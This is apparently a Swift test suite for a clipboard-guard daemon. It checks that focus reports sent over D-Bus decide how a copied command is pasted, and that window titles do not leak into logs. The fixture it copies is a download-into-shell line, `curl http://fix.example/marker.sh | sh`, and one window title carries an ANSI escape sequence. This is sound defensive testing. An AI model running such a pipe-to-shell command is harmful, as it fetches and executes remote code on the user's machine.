import TestProcesses
import Testing
import WaylandTestPeer
import X11TestPeer

/// Reports of the window with the focus, as the scripts of desktops make them over a real session bus. The service runs
/// on a compositor that reports none.
@Suite(.enabled(if: SessionBus.isPossible, "dbus-daemon or dunst is not installed"))
struct FocusReportsTests {
  private static let command = "curl http://fix.example/marker.sh | sh\n"
  private static let type = "text/plain;charset=utf-8"

  private let bus: SessionBus

  init() throws { bus = try SessionBus() }

  private func desktop(_ configuration: String = "") throws -> MockDesktop {
    var features = MockCompositor.Features()
    features.hasToplevels = false
    return try MockDesktop(configuration: configuration, features: features, variables: bus.variables)
  }

  private func call(_ method: String, _ arguments: [String]) throws -> String {
    try bus.call("org.washboard.Focus", "/org/washboard/Focus", "org.washboard.Focus1.\(method)", arguments)
  }

  private func report(_ application: String, _ name: String = "", title: String = "") throws {
    let arguments = ["string:\(application)", "string:\(name)", "string:\(title)", "uint32:0"]
    try #require(try wait(limit: 10_000) { try !call("Report", arguments).isEmpty })
  }

  /// Copies the command, and lets so much time pass that no manager asks for it.
  private func copy(on desktop: MockDesktop) throws {
    try #require(try desktop.isCleaned([Self.type], [Self.type: .honest(Array(Self.command.utf8))]))
    let end = milliseconds() + 600
    try #require(try wait(limit: 5000) { milliseconds() >= end })
  }

  @Test func `without a report a dangerous copy is guarded for everyone`() throws {
    let desktop = try desktop()
    try copy(on: desktop)
    #expect(try desktop.pasteText() == String(Self.command.dropLast()))
    #expect(desktop.daemon.errorText.contains("guard: copied (dangerous: download-into-shell)"))
  }

  @Test func `the program that was reported last copies and pastes`() throws {
    let desktop = try desktop()
    try report("firefox", "Firefox", title: "a secret title")
    try copy(on: desktop)
    try report("org.kde.kate")
    #expect(try desktop.pasteText() == Self.command)
    try report("org.kde.konsole", "konsole")
    #expect(try desktop.pasteText() == String(Self.command.dropLast()))
    try report("")
    #expect(try desktop.pasteText() == String(Self.command.dropLast()))
    let explanation = try desktop.explanationText()
    #expect(explanation.contains("from Firefox, which had the focus"), "\(explanation)")
    #expect(explanation.contains("pasted into konsole without the last line end"), "\(explanation)")
    let log = desktop.daemon.errorText
    #expect(!log.contains("guard: copied") && !log.contains("secret") && !log.contains("marker"))
  }

  @Test func `rules know the title that was reported, and nothing else tells it`() throws {
    let desktop = try desktop(
      """
      [[rules]]
      name = "from the wiki into a ticket"
      when = { source-title = "*confluence*", destination-title = "* - Jira" }
      profile = "one-line"
      """)
    try report("firefox", "Firefox", title: "marker \u{1B}[2J - Confluence")
    try #require(try desktop.isCleaned([Self.type], [Self.type: .honest(Array("one\u{200B}\ntwo".utf8))]))
    let end = milliseconds() + 600
    try #require(try wait(limit: 5000) { milliseconds() >= end })
    #expect(try desktop.pasteText() == "one\ntwo")
    try report("firefox", "Firefox", title: "marker - Jira")
    #expect(try desktop.pasteText() == "one two")
    let explanation = try desktop.explanationText()
    #expect(explanation.contains("by rule \"from the wiki into a ticket\""), "\(explanation)")
    #expect(!explanation.contains("marker") && !desktop.daemon.errorText.contains("marker"))
  }

  @Test func `calls that are no reports change nothing`() throws {
    let desktop = try desktop()
    try report("org.kde.konsole")
    for arguments in [["string:kate"], ["uint32:1", "string:", "string:", "string:"], []] {
      #expect(try call("Report", arguments).isEmpty)
    }
    #expect(try call("Ask", ["string:kate"]).isEmpty)
    try report(String(repeating: "a", count: 100_000))
    try copy(on: desktop)
    #expect(try desktop.pasteText() == Self.command)
    #expect(try desktop.counts().cleaned == 1)
  }
}
